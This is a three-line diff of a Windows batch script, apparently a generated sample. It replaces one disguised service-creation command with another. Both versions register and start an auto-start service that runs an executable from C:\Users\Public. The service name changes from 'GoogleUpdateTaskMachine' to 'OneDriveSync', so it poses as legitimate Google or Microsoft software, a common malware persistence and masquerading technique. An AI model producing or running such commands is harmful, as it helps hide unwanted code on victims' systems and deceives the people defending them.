@@ -1,3 +1,3 @@
-REM init 8504 v1
-sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
-sc start GoogleUpdateTaskMachine
+REM config 6029 v1
+sc create OneDriveSync binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
+sc start OneDriveSync
